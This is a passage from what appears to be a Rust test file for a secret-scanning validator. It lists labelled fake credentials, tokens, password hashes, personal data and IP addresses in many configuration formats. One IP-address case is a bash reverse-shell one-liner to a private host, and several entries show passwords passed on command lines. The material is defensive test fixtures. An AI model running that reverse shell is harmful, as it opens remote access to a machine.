//! Every detector in every field of a pair, never printed; a credential file named in an old
//! pair. The look-alikes that must stay quiet are in `look_alikes.rs`.

use serde_json::{json, Value};

use super::{pair, write_lines};
use crate::env::{OutputExt, TestEnv};

/// Fake secrets of every kind the validator knows. None is real.
fn secrets() -> Vec<(&'static str, String)> {
    vec![
        ("aws_access_key", "AKIAZ7Q4LMNB2XWE3R5T".into()),
        ("github_token", format!("ghp_{}", "R8x2Lq9ZtV4mN7bK1cW3yH6pJ0sD5fG2aE8u")),
        ("github_token", format!("github_pat_11AZ7Q4LMNB0{}", "x9Kq2Lm8Vt".repeat(6))),
        ("gitlab_token", "glpat-Xy9Kq2Lm8VtR4nB7cD1e".into()),
        ("slack_token", "xoxb-2938475610-1928374650-Qw8Er7Ty6Ui5Op4As3Df2Gh".into()),
        ("slack_webhook", "https://hooks.slack.com/services/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".into()),
        ("stripe_key", format!("sk_live_{}", "51HxQ2eL8vT4kR9mN3bC7dF0")),
        ("openai_key", "sk-proj-Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6n".into()),
        ("anthropic_key", "sk-ant-api03-Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP".into()),
        ("google_api_key", "AIzaSyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q".into()),
        // (Not jwt.io's example signature, which docs and tests copy everywhere: a look-alike.)
        ("jwt", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.Qm7vT2xLp9Zk4Rw8Nc3Yb6Hd1Fj5Gs0Ua_eXy2Kq8Vw".into()),
        ("private_key", "-----BEGIN RSA PRIVATE KEY-----".into()),
        ("private_key", "-----BEGIN OPENSSH PRIVATE KEY-----".into()),
        ("assigned_secret", "password = \"q8Zr2LxP0vKm\"".into()),
        ("assigned_secret", "API_KEY=Zk3Vq9Lr2Xw7Nt5B".into()),
        ("connection_string", "postgres://admin:s3cr3tP4ss@db.internal:5432/app".into()),
        ("email", "jane.doe@acme-corp.io".into()),
        // Not 555-01xx, the numbers kept for films and guides (session 47: no longer findings).
        ("phone", "+1 415-867-0132".into()),
        ("credit_card", "4111 1111 1111 1111".into()),
        ("ip_address", "10.42.7.19".into()),
        // A name for a version before other numbers does not hide an address after them.
        ("ip_address", "<version>2</version><host>10.20.30.40</host>".into()),
        ("ip_address", "unit conversion: 10.20.30.41".into()),
        // Assignments with any prefix, in every format configuration is written in.
        ("assigned_secret", "db_password = \"Tr0ub4dor&3xQ9!zLp\"".into()),
        ("assigned_secret", "DB_PASSWORD=Tr0ub4dor3xQ9".into()),
        ("assigned_secret", "MYSQL_ROOT_PASSWORD: hunter2x9".into()),
        ("assigned_secret", "smtp_password: 'Mx7!pq2Lz'".into()),
        ("assigned_secret", "{\"password\": \"Qz8#rT5vLp\"}".into()),
        ("assigned_secret", "<password>Qz8#rT5vLp</password>".into()),
        ("assigned_secret", "<user name=\"deploy\" password=\"Qz8#rT5vLp\"/>".into()),
        ("assigned_secret", "define('DB_PASSWORD', 'Qz8#rT5vLp2');".into()),
        ("assigned_secret", "SECRET_KEY = 'django-insecure-8x#f2k!q9z$w1v@m3n&p5r7t'".into()),
        ("assigned_secret", "secret_key_base: 3f9c2b7a1e8d4f6a0b5c9e2d7a1f3b8c6e4d2a9f7b1c5e3d8a6f2b4c9e7d1a3f".into()),
        ("assigned_secret", ":password => 'Qz8#rT5vLp'".into()),
        ("assigned_secret", "//registry.npmjs.org/:_authToken=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d".into()),
        ("assigned_secret", "<Pass encoding=\"base64\">UXo4I3JUNXZMcA==</Pass>".into()),
        ("assigned_secret", "[client]\npassword=Xv93!kLq2".into()),
        ("connection_string", "mongodb+srv://app:Qz8rT5vLp9@cluster0.mongodb.net/db".into()),
        ("connection_string", "REDIS_URL=redis://:Zq8rT5vLp9x2@cache.internal:6379/0".into()),
        ("assigned_secret", "machine api.heroku.com login deploy password 8f3a2b9c-4d1e-4f6a-9b0c".into()),
        ("basic_auth", "curl -u admin:Xk29fmQp7zLw https://api.internal/v1".into()),
        ("basic_auth", "wget --http-password=Xk29fmQp7zLw https://files.internal/a.tgz".into()),
        ("basic_auth", "_auth = \"ZGVwbG95OlF6OCNyVDV2THA=\"".into()),
        ("discord_webhook", format!("https://discord.com/api/webhooks/112233445566778899/{}", "Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1".repeat(2))),
        (
            "teams_webhook",
            "https://acme.webhook.office.com/webhookb2/8f3a2b9c-4d1e-4f6a-9b0c-9d8e7f6a5b4c@1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d/IncomingWebhook/8f3a2b9c4d1e7f6a5b0c9d8e7f6a5b4c/1a2b"
                .into(),
        ),
        ("azure_sas", "https://acct.blob.core.windows.net/c/f.txt?sv=2021-08-06&ss=b&sp=r&se=2026-01-01&sig=Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q%3D".into()),
        // Provider tokens by prefix.
        ("npm_token", format!("npm_{}", "Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1")),
        ("pypi_token", format!("pypi-AgEIcHlwaS5vcmc{}", "CJDk3ZmE0YzEtNjhhZS00N2QwLWI4ZTItYzk1MmY3ZDIxNTFkAAIqWzMsImQ")),
        ("sendgrid_key", format!("SG.{}.{}", "Xy9Kq2Lm8VtR4nB7cD1eF0", "gH5jK3lM6nP2q1Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3l")),
        ("twilio_key", "SK8f3a2b9c4d1e7f6a5b0c9d8e7f6a5b4c".into()),
        ("shopify_token", "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".into()),
        ("discord_token", "MTA1ODk2NzM0NTY3ODkwMTIz.GxYz12.Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6".into()),
        ("telegram_token", "123456789:AAHx9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP".into()),
        (
            "azure_storage_key",
            format!(
                "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={}==",
                "Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1Xy9Kq2Lm8VtR4n"
            ),
        ),
        ("mailgun_key", "key-8f3a2b9c4d1e7f6a5b0c9d8e7fXyZqWv".into()),
        ("digitalocean_token", format!("dop_v1_{}", "8f3a2b9c4d1e7f6a5b0c9d8e7f6a5b4c8f3a2b9c4d1e7f6a5b0c9d8e7f6a5b4c")),
        ("huggingface_token", "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".into()),
        ("heroku_key", "HEROKU_API_KEY=01234567-89ab-4def-8123-456789abcdef".into()),
        // Credentials in headers and blobs, and password hashes.
        ("basic_auth", "Authorization: Basic YWRtaW46czNjcjN0UDRzcw==".into()),
        ("docker_auth", "\"auth\": \"ZGVwbG95OlF6OCNyVDV2THA=\"".into()),
        ("bearer_token", "Authorization: Bearer 8f3aK2b9Xc4d1Ze7f6Qa5b0c9dR8e7f6".into()),
        ("password_hash", "root:$6$rounds=5000$Xy9Kq2Lm$Wq9b1vZ8xT3cN6mK2pL5rQ7sV0wY4uE1hJ9gF3dA6b:19000:0:99999:7:::".into()),
        ("password_hash", "admin:$apr1$r31.GfFz$HqJZimcKQFAMYayBlzkrA/".into()),
        ("password_hash", "$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy".into()),
        ("password_hash", "bob:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g=".into()),
        ("private_key", "-----BEGIN PRIVATE KEY-----".into()),
        ("private_key", "-----BEGIN EC PRIVATE KEY-----".into()),
        ("private_key", "PuTTY-User-Key-File-3: ssh-ed25519".into()),
        // What real configuration files hold (session 12): a kubeconfig's key as base64, a
        // service account's key id, passwords on command lines, a Django key with a bracket.
        ("private_key", "client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFb3dJQkFBS0NBUUVBdTFTVTFMZlZMUEhDb3pNeEgyTW80bGdPRWVQek5tMHRSZ2VMZXpWNmZmQXQwZ3VuCi0tLS0tRU5EIFJTQSBQUklWQVRFIEtFWS0tLS0tCg==".into()),
        ("gcp_service_account", "\"private_key_id\": \"3f2b8c1d9e4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c\"".into()),
        ("cli_password", "sshpass -p Xy7#pLm2qRz".into()),
        ("cli_password", "mysql -u root -pS3cr3tPw0rd".into()),
        ("assigned_secret", "SECRET_KEY = 'k2@x!v9z$q1w^e7r&t5y*u3i(o0p)a8s-d6f_g4h=j2k+l0'".into()),
        ("assigned_secret", "- name: DB_PASSWORD\n  value: Tr0ub4dor3xQ9".into()),
        ("assigned_secret", "{\"name\": \"STRIPE_SECRET\", \"value\": \"Zk3Vq9Lr2Xw7Nt5Bq8\"}".into()),
        ("assigned_secret", "PGPASSWORD=Tr0ub4dor3xQ9 psql -h db".into()),
        ("cli_password", "docker login -u deploy -p Tr0ub4dor3xQ9 registry.internal".into()),
        ("assigned_secret", "\ndb_password: >-\n  Tr0ub4dor3xQ9".into()),
        ("assigned_secret", "\ndb.internal:5432:app:deploy:Tr0ub4dor3xQ9\n".into()),
        // Session 15: a YAML tag before the value, and an ini value on the next line.
        ("assigned_secret", "db_secret: !!binary MjNjcnh1IDJieXJpdXYyeXJpaTJidnl1MnI4OXkyb3UwMg==".into()),
        ("assigned_secret", "\nsmtp_password =\n    Tr0ub4dor3xQ9\n".into()),
        // Session 16: a secret as an environment lookup's default, as an XML element's
        // attributes or text, under a key's name (`ENCRYPTION_KEY`, `APP_KEY`, WordPress's
        // salts), and the hashes of web applications.
        ("assigned_secret", "DB_PASSWORD = os.getenv(\"DB_PASSWORD\", \"Zq8rT5vLp9\")".into()),
        ("assigned_secret", "secret = config('SECRET_KEY', default='Zq8rT5vLp9xY2mN7bK1c')".into()),
        ("assigned_secret", "const password = process.env.DB_PASSWORD || \"Zq8rT5vLp9\";".into()),
        ("assigned_secret", "POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:-Zq8rT5vLp9}".into()),
        ("assigned_secret", "<property name=\"password\" value=\"Zq8rT5vLp9\" />".into()),
        ("assigned_secret", "<add key=\"Password\" value=\"Zq8rT5vLp9\" />".into()),
        ("assigned_secret", "<entry key=\"db.password\">Zq8rT5vLp9</entry>".into()),
        ("assigned_secret", "ENCRYPTION_KEY=9f8e7d6c5b4a39281706f5e4d3c2b1a0".into()),
        ("assigned_secret", "APP_KEY=base64:Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1Xy9Kq2L=".into()),
        ("assigned_secret", "define('AUTH_KEY', 'x[9Q+Hb|k@3Zr!M,~vT8^LdE2wJ&yN5s?pA7o%Gc$uK6i');".into()),
        ("assigned_secret", "db_pw=Zq8rT5vLp9".into()),
        ("password_hash", "INSERT INTO `wp_users` VALUES (1,'admin','$P$BZq8rT5vLp9xY2mN7bK1cW3yH6pJ0s.','admin');".into()),
        ("password_hash", "pbkdf2_sha256$260000$Zq8rT5vLp9xY2mN7$Wq9b1vZ8xT3cN6mK2pL5rQ7sV0wY4uE1hJ9gF3dA6bc=".into()),
        ("password_hash", "$argon2id$v=19$m=65536,t=3,p=4$Zq8rT5vLp9xY2mN7$Wq9b1vZ8xT3cN6mK2pL5rQ7sV0wY4uE1hJ9gF3dA6bc".into()),
        ("password_hash", "authentication_string = '*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19'".into()),
        // Keyword and value with only space between (msmtp, fetchmail, Redis, snmpd, a netrc
        // entry's line), Composer's auth.json, wpa_supplicant, OpenVPN's static key, PostgreSQL's hashes.
        ("assigned_secret", "\naccount default\nhost smtp.acme.io\npassword Zq8rT5vLp9\n".into()),
        ("assigned_secret", "\n  password 0123abcd-89ab-4def-8123-456789abcdef\n".into()),
        ("assigned_secret", "poll mail.acme.io protocol pop3 user \"joe\" password \"Zq8rT5vLp9\"".into()),
        ("assigned_secret", "\nrequirepass Zq8rT5vLp9\n".into()),
        ("assigned_secret", "\nrocommunity Zq8rT5vLp9x\n".into()),
        ("assigned_secret", "{\"github-oauth\": {\"github.com\": \"9f8e7d6c5b4a39281706f5e4d3c2b1a098765432\"}}".into()),
        ("assigned_secret", "psk=\"Zq8rT5vLp9x\"".into()),
        ("private_key", "-----BEGIN OpenVPN Static key V1-----\n9f8e7d6c5b4a39281706f5e4d3c2b1a0\n-----END OpenVPN Static key V1-----".into()),
        ("password_hash", "\"deploy\" \"md5a3c5b4f2d8e6a1b9c0d7e3f4a5b701e9\"".into()),
        ("password_hash", "SCRAM-SHA-256$4096:Zq8rT5vLp9xY2mN7$Wq9b1vZ8xT3cN6mK2pL5rQ7sV0wY4uE1hJ9gF3dA6bc=:Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6nP2q1=".into()),
        // PHP and Perl variables and arrays, PowerShell, a client key.
        ("assigned_secret", "$dbpass = 'Zq8rT5vLp9';".into()),
        // offlineimap's repository passwords (session 55).
        ("assigned_secret", "[Repository Remote]\nremoteuser = me\nremotepass = Zq8rT5vLp9\n".into()),
        ("assigned_secret", "$cfg['Servers'][$i]['password'] = 'Zq8rT5vLp9';".into()),
        ("assigned_secret", "my $password = 'Zq8rT5vLp9';".into()),
        ("cli_password", "$pw = ConvertTo-SecureString \"Zq8rT5vLp9\" -AsPlainText -Force".into()),
        ("assigned_secret", "client_key: 9f8e7d6c5b4a39281706f5e4d3c2b1a0".into()),
        // More providers' prefixed tokens (session 16).
        ("vault_token", "hvs.XeeSaOcAa2qtQPoOAST0VqJ8vmTByO9mQB5JzmqoBddmotSOyTXQayFWfbhpL8kSlCSF1yAhXPfJTTUddEKseu2Ac13fA61".into()),
        ("doppler_token", "dp.pt.esyHd1nFfpB9JtO6Z5XCiCqpZmUegq80yrp10EOUGtF".into()),
        ("dynatrace_token", "dt0c01.8HPAZCHDZJQPLAP7PHGJRY0C.Z333QCDBM1Q6YGNH0GSH31JZPIIZ16OZLX5L0N1B5TSHET5P84N26I59FGUD3F5D".into()),
        ("grafana_token", "glsa_gViKGtXZSZEOMdNtAoAOVZmnNDR5oBYo_1476806f".into()),
        ("linear_key", "lin_api_leWItdvt6LGMBF7XuSp0p9GJCL7nswsHu8wOWNkb".into()),
        ("planetscale_token", "pscale_tkn_FL7FdF4CkJJruxKxNaCwWHr3ZaQHnYmMWvcXbBWM0FN".into()),
        ("postman_key", "PMAK-cd16da1cb04d7a5c1c1ce140-569d01304a29e4d9d241989ea28c9f033a".into()),
        ("prefect_key", "pnu_4ZR83cS1yNR9AesAuM3FzaJ9lO7VakxGv1R4".into()),
        // Session 34: formats Nosey Parker's rule examples hold that no rule here found.
        ("adafruit_key", format!("aio_{}", "Nr7Cb67VvzSaM7fr3nMXrfZ1uMPH")),
        ("dependency_track_key", format!("odt_{}", "KTJlDq2AGGGlqG4riKdT7p980AW8RlU5")),
        ("jina_key", format!("jina_{}{}", "c1758c6f49e14ced990ac7776800dc45", "ShJNTXBCizzwjE6IMFYJ7LD959cG")),
        ("tavily_key", format!("tvly-{}", "M5gj3Jev9qI3hv2KuTOrvF0gVrBq5Usi")),
        ("twitch_stream_key", format!("live_126031192_{}", "RJVJxpxq8Q1X1Qdc9SwwTvpXonANmi")),
        ("newrelic_key", format!("{}NRAL", "033f2f2072ca3f2cb2ec39024fa9e49cd640")),
        ("newrelic_key", format!("NRII-{}", "3nbcrMjHHs0RrT3GhRNqpd16YVMFHdcI")),
        ("pixie_key", format!("px-api-{}", "c20a3cba-d3c9-45c1-a557-8864040b8f79")),
        ("gitlab_token", format!("GR1348941{}", "_iAgdMy7a3NhZaa5oNoH")),
        ("nuget_key", format!("oy2{}", "l53fxd7xcf99dnyrqewssedgopshuticofclpespbyi")),
        ("okta_token", format!("Authorization: SSWS 00{}", "QCjAl4MlV-WPXM-ABCDEFGHIJKL-0HmjFx-vbGua")),
        ("sonar_token", format!("sqp_{}", "5524bf449ca45fcace54698371466398321f3a82")),
        ("sonar_token", format!("-Dsonar.login={}", "826de5590c75919a8317fdface58206eebe7ebbc")),
        ("sourcegraph_token", format!("sgp_local_{}", "b70acbf2f685734c19791789fdeb73c6393dd02a")),
        ("salesforce_token", format!("00DE0X0A0M0PeLE!{}", "CJoAQOx1GCLf1UIt4UU9y0VOPLUZAYN6I8DsdGEDyHh5cO02egObcAhIDHYiGCfi94c53oFbr4HB.xZfuYRGhvNuxobAAXRe")),
        ("azure_devops_pat", format!("{}AZDO3eqU", "6RtqHqPc66Y6DYbkydbrrFJTYnRoA7r40ts7LWS2SkINSFsRABxhJQQJ99BFACAAAAALGcqjAAAS")),
        ("assigned_secret", format!("ado_pat = \"{}\"", "iyfmob6xjrfmit67anxbot64umfx2clwx7dz5ynxi4q2z3uqegvq")),
        ("grafana_token", format!("eyJrIjoi{}", "Y21sM1JRYjB6RnVYSTNLenRWQkFEaWN2bXI2V202U2IiLCJuIjoiYWRtaW5rZXkiLCJpZCI6MX0=")),
        ("teams_webhook", format!("https://outlook.office.com/webhook/{}", "9da5da9c-4218-4c22-aed6-b5c8baebfff5@2f2b54b7-0141-4ba7-8fcd-ab7d17a60547/IncomingWebhook/1bf66ccbb8e745e791fa6b3c0e4b6a37/7a8a6b9c-1d2e-4f3a-9b8c-7d6e5f4a3b2c")),
        ("vault_unseal_key", format!("Unseal Key 2: {}", "0tZn+7QQCxphpHwTm7/dC3LpP5JGIbYl3PK8Sy81R+P2")),
        ("kubernetes_bootstrap_token", format!("kubeadm join 10.0.0.1:6443 --token {}", "be8dfd.da8a689a46edc282")),
        ("password_hash", format!("$8${}", "TnGX/fE4KGHOVU$pEhnEvxrvaynpi8j4f.EMHr6M.FzU8xnZnBr/tJdFWk")),
        ("assigned_secret", format!("PresharedKey = {}", "uRsfsZ2Ts1rach4Zv3hhwcx6wa5fuIo2u3w7sa+7j81=")),
        ("connection_string", format!("mongodb+srv://hpapp:{}@briaserver.7xsu17j.mongodb.net/test", "bria@pass135!")),
        ("doppler_token", format!("dp.st.dev.{}", "bAqhcVzrhy5cRHkOlNTc0Ve6w5NUDCpcutm8vGE9myi")),
        // Session 35: the forms Skyscanner's whispers tests hold that no rule found.
        ("assigned_secret", format!("String static_password01 = \"{}\";", "Qr8mV2wz")),
        ("assigned_secret", format!("apikey: {}", "YXNkZmZmZmZm_HARDqoded")),
        ("assigned_secret", format!("static final String NONCOMPLIANT_APITOKEN = \"{}\";", "Zk4vN8pQ2wLm7RtX")),
        ("assigned_secret", format!("<entry>\n  <key>business.password</key>\n  <value>{}</value>\n</entry>", "Wq7mZ2rt")),
        ("assigned_secret", format!("<property>\n  <name>fs.s3a.secret.key</name>\n  <value>{}</value>\n</property>", "wJalrXUtnFEMIK7MDENGbPxRfiCYz9q3")),
        ("assigned_secret", format!("<environment>GITHUB_TOKEN={}</environment>", "Zk4vN8pQ2wLm7RtXa9Yc")),
        ("assigned_secret", format!("if user == \"admin\" and password == f\"{}\":", "Qr8mV2wz")),
        ("assigned_secret", format!("if (\"{}\" === apiToken) {{", "Zk4vN8pQ2wLm7RtX")),
        ("assigned_secret", format!("\nENV DRONE_TOKEN {}\n", "Zk4vN8pQ2wLm7RtXa9Yc")),
        ("basic_auth", format!("curl -k -v \\\n    --proxy-user admin:{} \\\n    https://localhost", "Qr8mV2wz")),
        ("basic_auth", format!("curl --proxy-tlspassword {} https://localhost", "Qr8mV2wz")),
        // trufflehog's detector tests: a header set in code, Jenkins' encrypted secrets.
        ("assigned_secret", format!("req.Header.Set(\"X-BillomatApiKey\", \"{}\")", "c09761f99f39f79ae28eaaf8df20d7c9")),
        ("jenkins_secret", format!("\"password\": \"{{{}}}\"", "AQAAABAAAAAQx7b3oYkQv2H9y0ZkM1xq5Rj4sW8yTn0cLp2vF6gH8iJ=")),
        ("assigned_secret", format!("<secret>{{AQAAABAAA {}}}</secret>", "ssoj8umx032r2f6sintvtw582bwvxymxgifu6gmk")),
        // Session 38: formats secretlint's rule tests hold that no rule here found.
        ("tailscale_key", format!("tskey-auth-{}-{}", "kQ7vW2xCNTRL", "Vt4R8nB7cD1eF0gH5jK3lM6nP2q1")),
        ("vercel_token", format!("vca_{}", "Q7vW2xLm9Vt4R8nB7cD1eF0gH5jK3")),
        ("cloudflare_token", format!("cfut_{}{}", "Zq8rT5vLp9Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM", "5da846a3")),
        ("docker_token", format!("docker login -u deploy -p dckr_pat_{}", "Xq2LmN9Vt4R8nB7cD1eF0gH5jK3")),
        ("groq_key", format!("gsk_{}", "Q7vW2xLm9Vt4R8nB7cD1eF0gH5jK3lM6nP2q1Zq8rT5vLp9Xy9Kq")),
        ("onepassword_token", format!("ops_eyJ{}", "lbWFpbCI6ImRlcGxveUBhY21lLmlvIiwibXVrIjp7ImFsZyI6IkEyNTZHQ00iLCJrIjoiWHk5S3EyTG04VnRSNG5CN2NEMWVGMGdINWpLM2xNNm4ifX0")),
        ("slack_token", format!("xapp-1-A02BCDE3FGH-{}", "1234576618999-4f8e9a1b2c3d4e5f6a7b8c9d0e1f2a3b")),
        ("github_token", format!("ghs_12345_{}", "eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0NSIsImV4cCI6MTc0NTU2ODM2MH0.Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6n")),
        ("shopify_token", format!("shpat_{}", "r8TRc9ZXqvcVvcrmtr7qoVw69WeeY1xQ")),
        ("databricks_token", format!("dapi{}", "C0FFEE9876543210FEDCBA9876543210-2")),
        ("assigned_secret", format!("GET /api/positions?user=bob&token={}&page=2", "Zk4vN8pQ2wLm7RtXa9Yc")),
        ("pulumi_token", "pul-0a5bd9b6561280038633ffb0028d3adfc7695755".into()),
        ("rubygems_key", "rubygems_cb24064d289daac6a7e00b0edd2477051587bf1f47afdba7".into()),
        ("sendinblue_key", "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".into()),
        ("shippo_token", "shippo_live_137b9713023541cdb9755abcd79d4b3dcfb4c7dd".into()),
        ("sentry_token", "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".into()),
        ("sourcegraph_token", "sgp_5b994ddc0899ebf9aa91e5fbd602af081ffbc79c".into()),
        ("artifactory_key", "AKCpxUY6RtVRNE6M1WTLGgAwaSuwfXXMMzatKYTtFTfwMpckDT8oiPcDjYwuDlHgVEMMYxmcx".into()),
        ("atlassian_token", "ATATT3cHnqdHBww2ztFWnWRu22xHfQF3PxbN6JfDCSv2okBKAKiGLYZIXG2jhJFAECxmqDAd9Y30Ac4XAcNyHHj1q6NClZyRE2KkxAnTvRFlXA2A1m5uhD9nMN00IqnokPbdQ6g5qcwYSdTg7tALPh0UcqQrQ2pjqIYhGGfdsaKXhPZKFRvqXKuec9".into()),
        ("alibaba_key", "LTAID96wTgXlLe04WcdDw427".into()),
        ("flutterwave_key", "FLWSECK_TEST-ha102h7d83b963e1gc8hb77e2aec1d61-X".into()),
        ("clojars_token", "CLOJARS_cu5snnuhwobp9pb71rmmnxv2jp26lkswlmh90v4v9x0wul2e24fsnj8hrne3".into()),
        ("duffel_token", "duffel_live_2D9H8vP1ATibpnIBflDnGT6YnbRBkuJ2WMszT1Fz8UG".into()),
        ("dropbox_token", "sl.znya3ijvCQJc0UlbcoZbXy4qUrbZLSxksoOfoMMThXRdvft6FYPTTv6vsndhgF9eRW1veDgS0dYlaFqhLidHDyWN4ncPwkEh6B9K5qLIf46bRRBHECFD5XouKpkxHcIpd8rJSFB".into()),
        ("plaid_token", "access-production-1c8999dd-e290-c5ff-0ce2-0151c072e0b8".into()),
        ("azure_ad_secret", "abc8Q~OBypfbgLlJFWf8542jafW0G6sCFaoRw1pn".into()),
        ("google_oauth_secret", "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".into()),
        ("google_oauth_token", "ya29.g2squFEYzpQaTAOi8y0IFmhknuEa91Nj4UMPBWNQDItLl1PDzQRXLPBiv7fy".into()),
        ("facebook_token", "EAACEdEose0cBAR1D2wr6QdiWbeikXoLg30qWlffPIcflCb8W2gQoJ".into()),
        ("twitter_bearer", "AAAAAAAAAAAAAAAAAAAAAAJcHMIzReq0KvbtCX2I4H4f14GncCS4XLkL450eIfqa6wlhPdvfEvMeBCVmcU".into()),
        ("mapbox_secret", "sk.eyJtcPEyjVGQvOkkZLikEtljhT9p9m5vCQOPo6d9lrpKzXqYO0ILlqkG81ymxpw4diY5gONw72BHjO7q8RPdSsOwszoZT".into()),
        ("linkedin_secret", "linkedin_client_secret: UjPSrpcmW3GSlPxk".into()),
        ("assigned_secret", "{\"deploy\": {\"user\": \"root\", \"key\": \"Xy9Kq2Lm8VtR4nB7cD1eF0gH5jK3lM6n\"}}".into()),
        // Said aloud in a meeting, as the talk is transcribed.
        ("assigned_secret", "so the password is Tr0ub4dor3 for staging okay".into()),
        ("assigned_secret", "the admin password for the router is Zq8rT5vLp9 I think".into()),
        ("assigned_secret", "the secret key was Xy9Kq2Lm8VtR4nB7cD1e".into()),
        // A SQL dump's secret columns, and an ini value's further lines.
        ("assigned_secret", "INSERT INTO `users` (`id`, `email`, `password`) VALUES (2, 'bob', '5f4dcc3b5aa765d61d8327deb882cf99');".into()),
        ("assigned_secret", "\nCOPY public.api_keys (id, name, api_key) FROM stdin;\n1\tci\tXy9Kq2Lm8VtR4nB7cD1e\n\\.\n".into()),
        // Session 47: statements that set a password, and network devices' configurations.
        ("sql_password", "CREATE USER 'app'@'%' IDENTIFIED BY 'Xk29vLq8Pz';".into()),
        ("sql_password", "cur.execute(\"ALTER ROLE app WITH LOGIN PASSWORD 'Enc9PwZqx'\")".into()),
        ("device_secret", "username admin privilege 15 password 7 060E5C334F5B054A16".into()),
        ("device_secret", "\nsnmp-server community Publ1cR3ad RO\n".into()),
        ("device_secret", "\n tacacs-server host 192.0.2.1 key MySecretKey1\n".into()),
        // Session 53: an IOS keyring's key as AWS's VPN configurations write it, SNMPv3's
        // passwords, and unattended installs' answer files.
        ("device_secret", "\n pre-shared-key address 203.0.113.152 key QMP5tKPP5qk95Y1Eee9c_82.MofNUJQV\n".into()),
        ("device_secret", "\nsnmp-server user ops OPS v3 auth sha Auth9Pass! priv aes 128 Pr1vPass9\n".into()),
        ("install_password", "\nrootpw --plaintext Ks9xQ2mLp\n".into()),
        ("install_password", "\nd-i passwd/root-password password Pr3s33dRt9\n".into()),
        ("install_password", "<AdministratorPassword><Value>UnattendPw9!</Value><PlainText>true</PlainText></AdministratorPassword>".into()),
        ("install_password", "\nchpasswd:\n  list: |\n    root:Cl0ud1n1tPw\n  expire: false\n".into()),
        ("aws_secret_key", "\nAKIAJ2QW7ZRXP4KMN3VA:hT8qLm2vXw9rPz4Kc7Nb1Fy6Ud3Gs5Je0Ai8Ro2W\n".into()),
        ("assigned_secret", "\n203.0.113.5 198.51.100.7 : PSK \"S1teT0S1tePsk\"\n".into()),
        ("assigned_secret", "\n    user admin insecure-password H4pr0xyPw9\n".into()),
        // Session 48: passwords on tools' command lines and in drivers' positional calls; hosts
        // where a folder or an image's tag could be (a version there is not one).
        ("cli_password", "RUN keytool -genkey -alias app -keystore app.jks -storepass Kt8kQ2xLm7".into()),
        ("cli_password", "sqlplus -s system/Or8kQ2xLm7@ORCL @setup.sql".into()),
        ("cli_password", "RUN echo 'deploy:Dp8kQ2xLm7' | chpasswd".into()),
        ("assigned_secret", "$link = mysqli_connect(\"localhost\", \"root\", \"Pz8kW3nQx2\", \"shop\");".into()),
        ("connection_string", "sql.Open(\"mysql\", \"app:Rt6yH3kLw9@tcp(127.0.0.1:3306)/shop\")".into()),
        ("ip_address", "bash -i >& /dev/tcp/10.42.7.19/4444 0>&1".into()),
        ("ip_address", "ltm pool /Common/10.42.7.19 {".into()),
        ("ip_address", "docker run --add-host=database:10.42.7.19 app".into()),
        ("ip_address", "curl https://api.ipstack.com/134.201.250.155?access_key=$KEY".into()),
        ("ip_address", "ssh ops@bastion-10.42.7.19".into()),
        // A call's name or an option's says it: setters and builders, curl, a keystore.
        ("assigned_secret", "HikariConfig c = new HikariConfig(); c.setPassword(\"Hk8kQ2xLm7\");".into()),
        ("assigned_secret", "curl_setopt($ch, CURLOPT_USERPWD, \"api:Cu8kQ2xLm7\");".into()),
        ("assigned_secret", "ks.load(in, \"Ks8kQ2xLm7\".toCharArray());".into()),
        // Personal data said aloud in a call, and numbers that identify a person or an account.
        ("email", "just email me at marcus dot webb at outlook dot com".into()),
        ("phone", "my cell is four one five, eight six seven, zero one three two".into()),
        ("ssn", "his social is 219-09-9999".into()),
        ("iban", "wire it to DE47 3704 0044 0532 0130 77".into()),
        // Google's app passwords: letters alone, in four groups of four or not.
        ("assigned_secret", "EMAIL_HOST_PASSWORD = 'qwhx zrbn mtkp vyld'".into()),
        ("assigned_secret", "server.login(\"alerts@acme-corp.io\", \"qwhxzrbnmtkpvyld\")".into()),
        // Session 49: ASP.NET's keys, in `web.config` and in ASP.NET Core's key ring.
        ("assigned_secret", "<machineKey validationKey=\"7AB3C9E1F04D2B6A8C5E7F9012345678ABCDEF0123456789FEDCBA9876543210\" validation=\"SHA1\" />".into()),
        ("assigned_secret", "<masterKey p4:requiresEncryption=\"true\">\n  <value>Qm9vT3NlY3JldE1hc3RlcktleTFBOGZ6UTJ4THA3dk05cVc0ck41dEI4eUMzbg==</value>".into()),
        // …and .NET's and PowerShell's other places for them: a connection string's password
        // with a `#` in it, a signing key from a literal, a cmdlet's `-Password`, a share's.
        ("assigned_secret", "<add name=\"Crm\" connectionString=\"Data Source=sql01;User ID=crm;Password=Crm#2024vK9\" />".into()),
        ("assigned_secret", "new SymmetricSecurityKey(Encoding.UTF8.GetBytes(\"k9Qm2LxV7tRp4NwZ8bYc\"))".into()),
